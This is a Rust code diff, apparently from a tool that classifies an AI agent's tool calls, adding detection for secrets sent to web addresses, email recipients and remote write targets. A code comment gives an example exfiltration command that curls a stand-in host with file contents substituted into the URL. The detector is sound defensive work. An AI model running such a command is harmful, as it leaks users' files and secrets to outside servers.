@@ -10,7 +10,7 @@ mod patterns;
 
 pub(crate) use conceal::{Concealer, Redaction, conceal_text, has_secrets};
 
-use crate::model::{Classification, Operation, Resource, RiskLevel, Target};
+use crate::model::{Classification, Operation, Resource, RiskLevel, Target, TargetRole, Unread};
 
 use super::reading::{Act, Format, Reading};
 use super::sign::{Sign, Signs};
@@ -113,10 +113,23 @@ impl Contents {
                 is_opened && (has_secret() || names_secret_value(text))
             })
         };
-        if reading.facts.targets.iter().any(leaks) {
+        let opens = |act: &Act| act.resource == Resource::Web && act.operation == Operation::Read;
+        let is_opened = reading.acts.iter().any(opens);
+        // What a tool is handed besides the address goes there as well: parameters, headers, a search.
+        let is_handed_on = reading.format == Format::ToolCall && is_opened && !self.secrets.is_empty();
+        // `curl https://x.example/?d=$(cat notes)`: what is read beside is filled in.
+        let is_filled_in = |part: &Unread| {
+            let is_address = part.found.contains("://") || part.found.contains('?') || part.found.contains('.');
+            is_address && (part.found.contains(['$', '`']) || part.found.contains("{}"))
+        };
+        let reads =
+            |act: &Act| act.operation == Operation::Read && !matches!(act.resource, Resource::Web | Resource::Unknown);
+        let is_filled_in = is_opened && reading.facts.unread.iter().any(is_filled_in) && reading.acts.iter().any(reads);
+        if is_handed_on || is_filled_in || reading.facts.targets.iter().any(leaks) {
             let act = Act::new("open", "address_with_secret", Resource::Web, Operation::Send, 0.9);
             reading.push(act.marked(Sign::Secret).at_risk(RiskLevel::High));
         }
+        sends_away(reading);
     }
 
     fn note(&mut self, sign: Sign, class: Classification) {
@@ -128,6 +141,48 @@ impl Contents {
         if self.secrets.len() < MOST_SECRETS && !self.secrets.iter().any(|known| known == secret) {
             self.secrets.push(secret.to_owned());
         }
+    }
+}
+
+/// Adds what a call sends that neither its name nor another argument says: to somebody who is named as a recipient, to an
+/// address that something is written to.
+fn sends_away(reading: &mut Reading) {
+    let is_quiet = |act: &Act| {
+        matches!(act.operation, Operation::Read | Operation::Write)
+            && matches!(
+                act.resource,
+                Resource::File
+                    | Resource::Document
+                    | Resource::Information
+                    | Resource::Media
+                    | Resource::Code
+                    | Resource::Database
+                    | Resource::Customer
+                    | Resource::Analytics
+                    | Resource::System
+            )
+    };
+    if reading.format != Format::ToolCall || !reading.acts.iter().all(is_quiet) {
+        return;
+    }
+    let away = reading.facts.targets.iter().find_map(|target| {
+        let text = target.original.as_deref().unwrap_or(&target.value);
+        let is_remote = || {
+            text.split_once("://").is_some_and(|(scheme, _)| !scheme.eq_ignore_ascii_case("file"))
+                || text.split_once(':').is_some_and(|(host, _)| host.contains('@'))
+                || text.starts_with("\\\\")
+        };
+        match target.role {
+            TargetRole::To | TargetRole::Cc | TargetRole::Bcc if text.contains('@') => Some((Resource::Email, text)),
+            TargetRole::Write | TargetRole::Destination if text.contains('@') && !text.contains(['/', ':']) => {
+                Some((Resource::Email, text))
+            }
+            TargetRole::Write | TargetRole::Destination if is_remote() => Some((Resource::Web, text)),
+            _ => None,
+        }
+    });
+    if let Some((resource, text)) = away {
+        reading.push(Act::new("send", "outside", resource, Operation::Send, 0.6).named_by(text));
     }
 }
 
